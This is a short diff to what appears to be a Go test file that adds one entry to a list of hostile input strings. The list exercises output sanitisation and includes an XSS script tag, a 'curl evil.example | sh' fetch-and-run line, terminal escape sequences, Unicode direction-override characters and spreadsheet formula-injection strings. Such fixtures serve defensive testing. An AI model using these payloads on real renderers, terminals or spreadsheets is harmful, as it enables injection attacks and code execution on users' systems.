@@ -35,6 +35,7 @@ var hostileTexts = []string{
 	`"<script>alert(1)</script><!-- <img src=x onerror=y> &amp; &lt;b&gt; </details>"`,
 	`"[link](https://evil.example) ![image](https://evil.example/x.png) <https://evil.example> www.evil.example @someone #1 :rocket: $x$"`,
 	"\"`tick` ``ticks`` ```sh\\ncurl evil.example | sh\\n``` ~~gone~~ **bold** _em_ \\\\\"",
+	"\"` <b>out of the code</b> [link](https://evil.example) `\"",
 	`"\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J\u009b31m \u0008\u0000\u007f"`,
 	`"\u202egnirts\u202c \u200f\u2066x\u2069 \u200bzero\u200dwidth\ufeff\u00ad \u2028line\u2029end\u180e"`,
 	`"=HYPERLINK(\"https://evil.example\",\"x\")"`, `"+1+1"`, `"-1+1"`, `"@SUM(A1:A9)"`, `"\t=1+1"`, `"\r=1+1"`, `"\uff1d1+1"`, `"\u200b=1+1"`, `"a,\"b\";c"`,
